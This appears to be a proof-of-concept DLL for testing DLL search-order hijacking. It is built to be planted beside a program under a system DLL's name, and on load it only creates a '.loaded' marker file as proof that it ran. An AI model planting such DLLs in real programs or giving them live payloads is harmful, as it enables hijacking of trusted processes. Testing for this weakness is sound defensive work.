// A DLL left beside the program under the name of a system DLL, as anyone who may write to the
// program's folder could leave one. Loaded, it says so: a file of its own name plus ".loaded"
// appears beside it.
#include <windows.h>

extern "C" BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID) {
    char path[MAX_PATH + 8];
    DWORD n;
    HANDLE f;
    if (reason != DLL_PROCESS_ATTACH) return TRUE;
    n = GetModuleFileNameA(self, path, MAX_PATH);
    if (n == 0 || n >= MAX_PATH) return TRUE;
    lstrcatA(path, ".loaded");
    f = CreateFileA(path, GENERIC_WRITE, 0, nullptr, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, nullptr);
    if (f != INVALID_HANDLE_VALUE) CloseHandle(f);
    return TRUE;
}
